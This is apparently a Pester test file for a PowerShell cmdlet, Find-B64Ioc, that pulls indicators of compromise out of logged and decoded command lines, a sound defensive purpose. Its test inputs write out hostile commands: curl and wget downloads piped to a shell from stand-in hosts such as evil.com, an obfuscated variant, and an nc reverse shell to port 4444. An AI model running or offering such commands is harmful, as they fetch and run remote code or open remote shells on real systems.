BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
}

Describe 'Find-B64Ioc' {
    Context 'plain strings' {
        It 'turns each string into an event with its indicators' {
            $events = 'curl -s http://evil.com/a.sh|bash', 'chmod +x install.sh; ./install.sh; /tmp/.x/run' | Find-B64Ioc
            $events | Should -HaveCount 2
            $events[0] | Should -BeOfType ([B64Hunt.Model.CommandEvent])
            ($events[0].Iocs | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('url:http://evil.com/a.sh', 'dns:evil.com')
            # Absolute paths only: ./install.sh depends on the working folder.
            ($events[1].Iocs | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('linux_path:/tmp/.x/run')
        }

        It 'reads through shell obfuscation and says which indicators only that shows' {
            $event = 'c\u\r\l -s http://ex\am\pl\e.t\op/x.sh | b""ash' | Find-B64Ioc
            $event.NormalizedCommand | Should -Be 'curl -s http://example.top/x.sh | bash'
            ($event.Iocs | ForEach-Object { "$($_.Type):$($_.Normalized):$($_.Deobfuscated)" }) |
                Should -Be @('url:http://example.top/x.sh:True', 'dns:example.top:True')
            ($event | Format-List | Out-String) | Should -Match 'NormalizedCommand : curl -s http://example.top/x.sh \| bash'
        }

        It 'reads lines of a file with -Expand' {
            $file = Join-Path $TestDrive 'notes.txt'
            Set-Content -Path $file -Value @('nc 93.184.216.34 4444 -e /bin/sh', 'hxxp://evil[.]com/x', 'nothing to see')
            $rows = Get-Content $file | Find-B64Ioc -Expand
            ($rows | ForEach-Object { "$($_.Type):$($_.Normalized)" }) |
                Should -Be @('ipv4:93.184.216.34', 'linux_path:/bin/sh', 'url:http://evil.com/x', 'dns:evil.com')
            ($rows | Where-Object Type -EQ 'url').Value | Should -BeExactly 'hxxp://evil[.]com/x'
        }
    }

    Context 'events' {
        BeforeEach {
            $script:Event = [B64Hunt.Model.CommandEvent]@{
                Computer       = 'web01'
                CommandLine    = 'echo Y3VybA== | base64 -d | sh # 198.51.100.7 and 8.8.4.4'
                DecodedCommand = 'wget -qO- http://10.0.0.5/k.sh | sh; ping -c1 beacon.evil.org'
            }
        }

        It 'passes the same event on with Iocs filled and private flags' {
            $out = $Event | Find-B64Ioc
            $out | Should -Be $Event
            ($Event.Iocs | ForEach-Object { "$($_.Type):$($_.Normalized):$($_.IsPrivate)" }) |
                Should -Be @('url:http://10.0.0.5/k.sh:True', 'ipv4:10.0.0.5:True', 'dns:beacon.evil.org:False')
        }

        It 'emits IoC table rows whose Event is the event they came from' {
            $rows = $Event | Find-B64Ioc -Expand
            $rows | Should -HaveCount 3
            $rows | ForEach-Object { $_ | Should -BeOfType ([B64Hunt.Model.Ioc]) }
            $rows | ForEach-Object { [object]::ReferenceEquals($_.Event, $Event) | Should -BeTrue }
            $rows[0].Event.Computer | Should -Be 'web01'
        }

        It 'restricts types with -IocType' {
            $rows = $Event | Find-B64Ioc -Expand -IocType dns, ipv4
            ($rows | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('ipv4:10.0.0.5', 'dns:beacon.evil.org')
        }

        It 'searches the logged command line too with -IncludeCommandLine' {
            $rows = $Event | Find-B64Ioc -Expand -IocType ipv4 -IncludeCommandLine
            ($rows | ForEach-Object Normalized) | Should -Be @('10.0.0.5', '198.51.100.7', '8.8.4.4')
            ($rows | Where-Object Normalized -EQ '198.51.100.7').IsPrivate | Should -BeTrue
        }

        It 'does not add indicators that are already on the event' {
            $null = $Event | Find-B64Ioc
            $null = $Event | Find-B64Ioc -IncludeCommandLine
            $Event.Iocs | Should -HaveCount 5
            ($Event.Iocs | Group-Object { "$($_.Type):$($_.Normalized)" } | Where-Object Count -GT 1) | Should -BeNullOrEmpty
        }
    }

    Context 'parameters and errors' {
        It 'offers the type names for -IocType' {
            $set = (Get-Command Find-B64Ioc).Parameters['IocType'].Attributes |
                Where-Object { $_.GetType().Name -eq 'ValidateIocTypeAttribute' }
            $set | Should -Not -BeNullOrEmpty
            { 'x' | Find-B64Ioc -IocType ip } | Should -Throw -ExpectedMessage "*'ip' is not an indicator type. Use one of: dns, email, ipv4, ipv6, linux_path, md5_hash, sha1_hash, sha256_hash, url, windows_path.*"
            { 'x' | Find-B64Ioc -IocType hostname } | Should -Throw -ErrorId 'ParameterArgumentValidationError,B64Hunt.Commands.FindB64IocCommand'
        }

        It 'reports other objects with a stable id and goes on' {
            $rows = 42, 'ping evil.com' | Find-B64Ioc -Expand -ErrorVariable err -ErrorAction SilentlyContinue
            $rows.Normalized | Should -Be 'evil.com'
            $err[0].FullyQualifiedErrorId | Should -BeExactly 'UnsupportedInputObject,B64Hunt.Commands.FindB64IocCommand'
            $err[0].TargetObject | Should -Be 42
        }

        It 'stops when the suffix list does not exist' {
            { 'x' | Find-B64Ioc -PublicSuffixPath (Join-Path $TestDrive 'missing.dat') -ErrorAction Stop } |
                Should -Throw -ErrorId 'PublicSuffixListNotFound,B64Hunt.Commands.FindB64IocCommand'
        }

        It 'judges names against another suffix list' {
            $list = Join-Path $TestDrive 'psl.dat'
            Set-Content -Path $list -Value '// custom', 'evil'
            ('echo c2.evil x.com' | Find-B64Ioc -Expand -PublicSuffixPath $list).Normalized | Should -Be 'c2.evil'
        }

        It 'has help with examples' {
            $help = Get-Help Find-B64Ioc -Full
            $help.Synopsis | Should -Match 'indicators'
            @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
        }
    }
}
